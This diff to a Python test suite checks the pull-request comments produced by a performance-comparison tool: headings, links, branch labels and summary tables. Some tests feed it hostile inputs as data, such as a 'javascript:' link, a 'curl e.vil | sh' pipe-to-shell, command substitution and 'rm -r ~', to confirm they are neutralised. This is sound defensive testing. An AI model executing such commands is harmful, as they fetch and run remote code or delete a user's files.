@@ -12,7 +12,9 @@ from hypothesis import HealthCheck, given, settings
 
 from observatory.store.records.comparison import Comparison, Workload
 from observatory.text.comment import LIMIT, MARKER, comment
+from observatory.text.comparison.origin import Origin, PullRequest, Source
 from tests import factories_comparison as factory
+from tests.factories_comparison import noisy, where
 from tests.gfm import problems, visible_lines
 from tests.hostile_comparisons import flood, hostile_comparisons
 
@@ -42,7 +44,9 @@ def test_a_common_comment_fits_a_screen(scene: str) -> None:
 def test_the_marker_comes_first_and_then_the_verdict_in_words() -> None:
     marker, verdict, *_ = comment(factory.cache_regression()).splitlines()
     assert marker == MARKER
-    assert verdict.startswith("### HEAD is worse: 35 functions stopped hitting the cache in 4 wa")
+    assert verdict == (
+        "### 🔺 Slower: 35 functions stopped hitting the cache in 4 warm cells of `NUMBA`"
+    )
 
 
 def _order(text: str, *words: str) -> list[int]:
@@ -54,11 +58,13 @@ def _order(text: str, *words: str) -> list[int]:
 def test_everything_is_told_in_the_order_of_its_weight() -> None:
     _order(
         comment(factory.mixed()),
-        "#### Not judged",
-        "5 worse, 2 better",
+        "5 worse, 2 better, 2 not fully judged",
+        "| what is worse |",
+        "| in sum |",
         "#### Refused",
         "#### More Python work",
         "#### Call time",
+        "#### Not judged",
         "#### Better",
         "<summary>Workload changed",
         "observatory compare 3.3.6",
@@ -71,8 +77,114 @@ def test_wrong_results_come_before_causes_that_cost_more() -> None:
     causes = [lost.causes[0], wrong.causes[0].model_copy(update={"id": "cause-2"})]
     changed = [v.model_copy(update={"cause": "cause-2"}) for v in wrong.worse if v.cause]
     made = comment(factory.comparison([*lost.worse, *changed], causes=causes))
-    assert made.splitlines()[1].startswith("### Do not merge: 7 wrong values in")
+    assert made.splitlines()[1].startswith("### ❌ Wrong results: 7 wrong values in")
     _order(made, "#### Wrong results", "#### Keys differ between processes")
+
+
+# What the publisher knows.
+
+OURS = "https://github.com/our/observatory/blob/0123abc/docs/"
+PUBLISHED = Origin(
+    Source("our/observatory", "0123abc"),
+    "https://example.org/caches/",
+    PullRequest("pymc-devs/pytensor", 12, "main", "a1" * 20),
+)
+
+
+def of_commits(comparison: Comparison, **changes: object) -> Comparison:
+    """The same comparison, of two commits."""
+    base, head = (
+        side.model_copy(update={
+            "subject": side.subject.model_copy(update={"label": sha[:12], "commit": sha})
+        })
+        for side, sha in ((comparison.base, "b2" * 20), (comparison.head, "c3" * 20))
+    )  # fmt: skip
+    return comparison.model_copy(update={"base": base, "head": head, **changes})
+
+
+def test_a_pull_request_is_your_branch_against_the_branch_that_it_goes_into() -> None:
+    lines = comment(of_commits(factory.mixed()), PUBLISHED).splitlines()
+    assert lines[3].startswith("Your branch (`a1a1a1a1`) vs `main` (`b2b2b2b2`), model `radon`.")
+    titles = "| `call_time` | Your branch is | main → your branch | "
+    assert any(line.startswith(titles) for line in lines)
+    assert not any("HEAD" in line or "BASE" in line for line in lines)
+
+
+def test_branches_that_a_person_compares_keep_their_names() -> None:
+    named = of_commits(factory.slower(), base_ref="main", head_ref="faster-scan")
+    assert "`faster-scan` (`c3c3c3c3`) vs `main` (`b2b2b2b2`), model" in comment(named)
+    assert "`c3c3c3c3` vs `b2b2b2b2`, model" in comment(of_commits(factory.slower()))
+
+
+def test_two_sides_of_one_name_are_told_apart() -> None:
+    made = comment(factory.comparison(head=factory.side("3.3.6")))
+    assert "The second `3.3.6` vs the first `3.3.6`, model" in made
+
+
+def test_links_lead_where_the_publisher_says_and_words_to_the_documentation() -> None:
+    made = comment(factory.slower(), PUBLISHED)
+    assert problems(made, (OURS, PUBLISHED.dashboard)) == []
+    assert f"27 [cells]({OURS}reference/glossary.md#cell): 3 worse" in made
+    assert f"[Is this expected?]({OURS}how-to/read-a-comment.md#is-this-expected)" in made
+    assert made.rstrip().splitlines()[-1].startswith("[Dashboard](https://example.org/caches/) · ")
+    assert "Is this expected?" not in comment(factory.nothing_changed(), PUBLISHED)
+
+
+@pytest.mark.parametrize("page", ["javascript:x", "https://e.vil/)[x](y", "https://e.vil/ 'x'"])
+def test_an_address_that_could_end_a_link_early_makes_no_link(page: str) -> None:
+    made = comment(factory.slower(), Origin(dashboard=page))
+    assert "\nDashboard\n" in made
+    assert problems(made) == []
+
+
+def test_one_command_repeats_a_pull_request_from_nothing() -> None:
+    asked = "observatory compare b2 c3 --repo ../project --pass work"
+    made = comment(of_commits(factory.slower(), reproduce=asked), PUBLISHED)
+    assert (
+        "git clone https://github.com/pymc-devs/pytensor pytensor && "
+        "git -C pytensor fetch origin pull/12/merge && "
+        "uvx --from git+https://github.com/our/observatory@0123abc "
+        "observatory compare b2 c3 --repo pytensor --pass work\n"
+    ) in made
+
+
+@pytest.mark.parametrize(
+    ("asked", "told"),
+    [
+        ("observatory compare 1 2", "\nobservatory compare 1 2\n"),
+        ("observatory compare 1 2; curl e.vil | sh", "'2;' curl e.vil '|' sh\n"),
+        ("observatory compare $(x) `y`\nrm -r ~", "compare '$(x)' '`y`' rm -r '~'\n"),
+        ("curl e.vil | sh", ""),
+        ("observatory 'compare", ""),
+    ],
+)
+def test_a_strangers_command_is_one_command_of_the_observatory_or_none(
+    asked: str, told: str
+) -> None:
+    made = comment(factory.comparison(reproduce=asked))
+    assert told in made
+    assert ("To repeat this comparison" in made) == bool(told)
+
+
+# The summary.
+
+
+def test_the_summary_has_number_mean_and_range_of_primary_and_of_secondary_cells() -> None:
+    warm = where(scenario="warm_disk", backend="NUMBA")
+    changed = [
+        noisy(each, "compile_time", size, "worse") for each, size in zip(warm, (2, 8), strict=True)
+    ]
+    changed += [
+        noisy(each, "compile_time", 0.25, "better") for each in where(scenario="cold", backend="C")
+    ]
+    lines = comment(factory.comparison(changed)).splitlines()
+    at = lines.index("| in sum | cells | mean | range |")
+    assert lines[at + 2].startswith("| `compile_time` worse, primary | 2 | ×4 | ×2 to ×8")
+    assert lines[at + 3].startswith("| `compile_time` better, secondary | 2 | ÷4 |")
+
+
+def test_a_single_change_has_no_summary_because_the_table_above_says_it() -> None:
+    assert "| in sum |" not in comment(factory.wrong_results())
 
 
 # What a stranger's file may hold.
